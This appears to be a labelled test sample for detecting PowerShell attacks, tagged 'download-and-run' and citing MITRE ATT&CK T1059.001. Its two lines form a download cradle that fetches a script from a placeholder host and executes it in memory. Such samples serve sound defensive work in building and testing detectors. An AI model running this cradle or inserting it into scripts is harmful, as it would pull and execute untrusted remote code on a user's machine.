# expect: download-and-run | source: MITRE ATT&CK T1059.001
$text = (New-Object System.Net.WebClient).DownloadString('http://files.example.invalid/stage')
$ExecutionContext.InvokeCommand.InvokeScript($text)
